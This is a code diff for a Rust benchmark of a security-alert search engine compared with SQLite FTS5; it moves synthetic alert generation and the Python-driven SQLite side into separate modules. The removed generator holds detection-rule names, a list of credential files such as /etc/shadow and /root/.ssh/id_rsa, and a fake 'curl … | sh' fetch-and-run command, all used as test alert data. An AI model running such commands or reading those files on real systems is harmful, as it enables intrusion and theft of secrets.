@@ -13,10 +13,11 @@
 //! PALISADE_BENCH_ALERTS=200000 cargo bench -p palisade-bench --bench search
 //! ```
 
+mod alerts;
+mod sqlite;
+
 use std::collections::BTreeMap;
-use std::io::Write as _;
 use std::path::Path;
-use std::process::{Command, Stdio};
 use std::time::Duration;
 
 use anyhow::{Context as _, ensure};
@@ -26,68 +27,19 @@ use palisade_core::config::SearchConfig;
 use palisade_core::ids::TenantId;
 use palisade_core::log::{LogEntry, Topic};
 use palisade_core::storage::Store;
-use palisade_proto::prost_types::Timestamp;
 use palisade_proto::v1::{
-    Alert, PageRequest, Priority, SearchRequest, SearchResponse, SortOrder, search_hit,
+    Alert, PageRequest, SearchRequest, SearchResponse, SortOrder, search_hit,
 };
 use palisade_search::schema::IndexSchema;
 use palisade_search::{SearchPeer, SearchTopics, start_search_actors};
 use prost::Message;
-use serde_json::{Value, json};
 use tokio::time::Instant;
 
-const TENANT: &str = "bench";
-const QUERY_RUNS: usize = 100;
+use crate::alerts::{TENANT, realistic_alert};
+use crate::sqlite::sqlite_fts5;
 
-const RULES: &[(&str, &str)] = &[
-    (
-        "Terminal shell in container",
-        "A shell was spawned in a container with an attached terminal",
-    ),
-    (
-        "Read sensitive file untrusted",
-        "Sensitive file /etc/shadow opened for reading by non-trusted program",
-    ),
-    (
-        "Contact K8S API Server From Container",
-        "Unexpected connection to K8s API Server from container",
-    ),
-    (
-        "Drop and execute new binary in container",
-        "Executing binary not part of base image",
-    ),
-    ("Write below etc", "File below /etc opened for writing"),
-    (
-        "Launch Privileged Container",
-        "Privileged container started",
-    ),
-    (
-        "Outbound Connection to C2 Servers",
-        "Outbound connection to known command and control server",
-    ),
-    ("Clear Log Activities", "Log files were tampered"),
-];
-const NAMESPACES: &[&str] = &[
-    "prod",
-    "staging",
-    "kube-system",
-    "payments",
-    "monitoring",
-    "dev",
-    "ci",
-    "ingress",
-    "data",
-    "auth",
-];
-const PROCESSES: &[&str] = &[
-    "bash", "sh", "cat", "curl", "python3", "nginx", "java", "node",
-];
-const SENSITIVE_FILES: &[&str] = &[
-    "/etc/shadow",
-    "/etc/passwd",
-    "/root/.ssh/id_rsa",
-    "/var/run/secrets/token",
-];
+/// Timed runs of every query, after one untimed run.
+const QUERY_RUNS: usize = 100;
 
 /// One question asked of both engines: the palisade query, and the same question in SQL.
 struct QueryCase {
@@ -145,75 +97,6 @@ const QUERY_CASES: &[QueryCase] = &[
     },
 ];
 
-fn realistic_alert(seq: usize) -> Alert {
-    let mix = seq.wrapping_mul(2_654_435_761);
-    let (rule, text) = RULES[mix % RULES.len()];
-    let namespace = NAMESPACES[(mix >> 7) % NAMESPACES.len()];
-    let process = PROCESSES[(mix >> 13) % PROCESSES.len()];
-    let pod = format!("{namespace}-web-{:05x}", (mix >> 3) % 4093);
-    let image = format!("registry.example.com/team-{}/api", (mix >> 5) % 17);
-    let fields = [
-        ("proc.name", process.to_string()),
-        (
-            "proc.cmdline",
-            format!(
-                "{process} -c 'curl http://10.0.{}.{}/x | sh'",
-                seq % 255,
-                seq % 251
-            ),
-        ),
-        (
-            "user.name",
-            ["root", "www-data", "app"][(mix >> 9) % 3].to_string(),
-        ),
-        ("container.id", format!("{:012x}", mix & 0xffff_ffff_ffff)),
-        ("container.image.repository", image.clone()),
-        ("container.image.tag", format!("1.{}.{}", seq % 7, seq % 31)),
-        ("k8s.ns.name", namespace.to_string()),
-        ("k8s.pod.name", pod.clone()),
-        (
-            "fd.name",
-            SENSITIVE_FILES[(mix >> 11) % SENSITIVE_FILES.len()].to_string(),
-        ),
-    ];
-    let priority = [
-        Priority::Warning,
-        Priority::Notice,
-        Priority::Critical,
-        Priority::Error,
-        Priority::Informational,
-    ][(mix >> 17) % 5];
-    Alert {
-        id: format!("{seq:016x}"),
-        tenant_id: TENANT.into(),
-        rule: rule.into(),
-        source: "syscall".into(),
-        priority: priority as i32,
-        output: format!(
-            "{text} (user=root command={process} pod={pod} ns={namespace} image={image} seq={seq})"
-        ),
-        output_fields: fields
-            .into_iter()
-            .map(|(key, value)| (key.to_string(), value))
-            .collect(),
-        tags: vec!["container".into(), "mitre_execution".into(), "T1059".into()],
-        // Ten alerts a second, 100 ms apart: times are distinct at the index's microsecond
-        // precision, so "newest N" has one right answer in both engines.
-        time: Some(Timestamp {
-            seconds: 1_790_000_000 + (seq / 10) as i64,
-            nanos: (seq % 10) as i32 * 100_000_000,
-        }),
-        hostname: format!("node-{}", seq % 50),
-        ..Default::default()
-    }
-}
-
-fn time_micros(alert: &Alert) -> i64 {
-    alert.time.as_ref().map_or(0, |time| {
-        time.seconds * 1_000_000 + i64::from(time.nanos) / 1_000
-    })
-}
-
 fn directory_size(path: &Path) -> u64 {
     let Ok(entries) = std::fs::read_dir(path) else {
         return 0;
@@ -262,6 +145,7 @@ fn raw_tantivy(alerts: &[Alert], path: &Path) -> anyhow::Result<Duration> {
     Ok(elapsed)
 }
 
+/// Latency of a query over its runs.
 struct Percentiles {
     p50: Duration,
     p99: Duration,
@@ -418,212 +302,6 @@ async fn service(alerts: &[Alert], data: &Path) -> anyhow::Result<ServiceRun> {
         documents,
         segments,
         size,
-    })
-}
-
-/// Statements of one query case for SQLite: total, newest ids, one per facet.
-fn sql_statements(case: &QueryCase) -> Value {
-    let mut conditions = vec![format!("a.tenant = '{TENANT}'")];
-    let from = match case.fts_match {
-        Some(text) => {
-            conditions.push(format!("alerts_fts MATCH '{text}'"));
-            // CROSS JOIN keeps the FTS5 match as the outer loop; with a plain JOIN SQLite's
-            // planner may walk the tenant index and re-run the MATCH per row, which would
-            // measure a bad plan instead of FTS5.
-            "alerts_fts CROSS JOIN alerts a ON a.rowid = alerts_fts.rowid"
-        }
-        None => "alerts a",
-    };
-    conditions.extend(
-        case.sql_conditions
-            .iter()
-            .map(|condition| condition.to_string()),
-    );
-    let filter = conditions.join(" AND ");
-    let facets: serde_json::Map<String, Value> = case
-        .facets
-        .iter()
-        .map(|(facet, column)| {
-            let sql = format!(
-                "SELECT a.{column}, count(*) FROM {from} WHERE {filter} GROUP BY a.{column}"
-            );
-            (facet.to_string(), Value::String(sql))
-        })
-        .collect();
-    json!({
-        "name": case.name,
-        "total": format!("SELECT count(*) FROM {from} WHERE {filter}"),
-        "newest": format!(
-            "SELECT a.id FROM {from} WHERE {filter} ORDER BY a.time DESC, a.id DESC LIMIT {}",
-            case.limit
-        ),
-        "facets": facets,
-    })
-}
-
-/// The SQLite side. Input rows are parsed before the clock starts, so the load time is
-/// SQLite's alone: inserts, the FTS5 index and the B-tree indexes the queries use.
-const FTS5_SCRIPT: &str = r#"
-import json, sqlite3, sys, time, os
-path, jsonl, cases_path, runs = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
-rows = []
-with open(jsonl) as lines:
-    for line in lines:
-        a = json.loads(line)
-        f = a["output_fields"]
-        rows.append((a["id"], a["tenant"], a["time"], a["severity"], a["rule"], f["k8s.ns.name"],
-                     f["proc.name"], f["container.image.repository"], a["output"], json.dumps(f)))
-with open(cases_path) as cases_file:
-    cases = json.load(cases_file)
-db = sqlite3.connect(path)
-db.executescript("""
-PRAGMA journal_mode=WAL; PRAGMA synchronous=NORMAL;
-CREATE TABLE alerts(rowid INTEGER PRIMARY KEY, id TEXT, tenant TEXT, time INTEGER, severity INTEGER,
-  rule TEXT, ns TEXT, proc TEXT, image TEXT, output TEXT, fields TEXT);
-CREATE VIRTUAL TABLE alerts_fts USING fts5(output, rule, content='alerts', content_rowid='rowid');
-""")
-start = time.perf_counter()
-insert = "INSERT INTO alerts(id,tenant,time,severity,rule,ns,proc,image,output,fields) VALUES (?,?,?,?,?,?,?,?,?,?)"
-for first in range(0, len(rows), 10000):
-    db.executemany(insert, rows[first:first + 10000])
-db.execute("INSERT INTO alerts_fts(rowid, output, rule) SELECT rowid, output, rule FROM alerts")
-db.executescript("""
-CREATE INDEX alerts_tenant_time ON alerts(tenant, time);
-CREATE INDEX alerts_tenant_proc_ns ON alerts(tenant, proc, ns, time);
-CREATE INDEX alerts_tenant_ns_severity ON alerts(tenant, ns, severity, time);
-CREATE INDEX alerts_tenant_rule ON alerts(tenant, rule);
-CREATE INDEX alerts_tenant_ns ON alerts(tenant, ns);
-""")
-db.commit()
-load = time.perf_counter() - start
-out = {
-    "load_seconds": load,
-    "rows": db.execute("SELECT count(*) FROM alerts").fetchone()[0],
-    "fts_rows": db.execute("SELECT count(*) FROM alerts_fts").fetchone()[0],
-    "queries": [],
-}
-def ask(case):
-    answer = {"total": db.execute(case["total"]).fetchone()[0],
-              "newest": [row[0] for row in db.execute(case["newest"])], "facets": {}}
-    for facet, sql in case["facets"].items():
-        answer["facets"][facet] = {value: count for value, count in db.execute(sql)}
-    return answer
-for case in cases:
-    answer = ask(case)
-    samples = []
-    for _ in range(runs):
-        started = time.perf_counter()
-        ask(case)
-        samples.append(time.perf_counter() - started)
-    samples.sort()
-    answer["p50"] = samples[int(round((len(samples) - 1) * 0.5))]
-    answer["p99"] = samples[int(round((len(samples) - 1) * 0.99))]
-    out["queries"].append(answer)
-db.close()
-out["size_bytes"] = sum(os.path.getsize(path + suffix) for suffix in ["", "-wal", "-shm"] if os.path.exists(path + suffix))
-print(json.dumps(out))
-"#;
-
-struct SqliteRun {
-    load: Duration,
-    rows: u64,
-    fts_rows: u64,
-    queries: Vec<(Percentiles, Answer)>,
-    size: u64,
-}
-
-fn seconds_field(value: &Value, name: &str) -> anyhow::Result<Duration> {
-    let seconds = value[name]
-        .as_f64()
-        .with_context(|| format!("no {name} in the SQLite output"))?;
-    Ok(Duration::from_secs_f64(seconds))
-}
-
-fn count_field(value: &Value, name: &str) -> anyhow::Result<u64> {
-    value[name]
-        .as_u64()
-        .with_context(|| format!("no {name} in the SQLite output"))
-}
-
-fn sqlite_answer(value: &Value) -> anyhow::Result<(Percentiles, Answer)> {
-    let newest_ids = value["newest"]
-        .as_array()
-        .context("no newest ids in the SQLite output")?
-        .iter()
-        .map(|id| id.as_str().map(str::to_string).context("an id is not text"))
-        .collect::<anyhow::Result<_>>()?;
-    let mut facets = BTreeMap::new();
-    for (facet, buckets) in value["facets"]
-        .as_object()
-        .context("no facets in the SQLite output")?
-    {
-        let buckets = buckets
-            .as_object()
-            .context("facet buckets are not an object")?
-            .iter()
-            .map(|(bucket, count)| {
-                let count = count.as_u64().context("a facet count is not a number")?;
-                Ok((bucket.clone(), count))
-            })
-            .collect::<anyhow::Result<_>>()?;
-        facets.insert(facet.clone(), buckets);
-    }
-    let answer = Answer {
-        total: count_field(value, "total")?,
-        newest_ids,
-        facets,
-    };
-    let timings = Percentiles {
-        p50: seconds_field(value, "p50")?,
-        p99: seconds_field(value, "p99")?,
-    };
-    Ok((timings, answer))
-}
-
-fn sqlite_fts5(alerts: &[Alert], directory: &Path) -> anyhow::Result<SqliteRun> {
-    let jsonl = directory.join("alerts.jsonl");
-    let mut file = std::io::BufWriter::new(std::fs::File::create(&jsonl)?);
-    for alert in alerts {
-        let line = json!({
-            "id": alert.id, "tenant": alert.tenant_id, "time": time_micros(alert),
-            "severity": alert.priority, "rule": alert.rule, "output": alert.output,
-            "output_fields": alert.output_fields,
-        });
-        writeln!(file, "{line}")?;
-    }
-    file.flush()?;
-    drop(file);
-    let cases_path = directory.join("cases.json");
-    let cases: Vec<Value> = QUERY_CASES.iter().map(sql_statements).collect();
-    std::fs::write(&cases_path, serde_json::to_vec(&cases)?)?;
-    let output = Command::new("python3")
-        .arg("-c")
-        .arg(FTS5_SCRIPT)
-        .arg(directory.join("alerts.sqlite"))
-        .arg(&jsonl)
-        .arg(&cases_path)
-        .arg(QUERY_RUNS.to_string())
-        .stderr(Stdio::inherit())
-        .output()
-        .context("running python3 for the SQLite FTS5 peer")?;
-    ensure!(
-        output.status.success(),
-        "the SQLite FTS5 peer failed: {}",
-        output.status
-    );
-    let result: Value = serde_json::from_slice(&output.stdout)?;
-    let queries = result["queries"]
-        .as_array()
-        .context("no queries in the SQLite output")?
-        .iter()
-        .map(sqlite_answer)
-        .collect::<anyhow::Result<_>>()?;
-    Ok(SqliteRun {
-        load: seconds_field(&result, "load_seconds")?,
-        rows: count_field(&result, "rows")?,
-        fts_rows: count_field(&result, "fts_rows")?,
-        queries,
-        size: count_field(&result, "size_bytes")?,
     })
 }
 
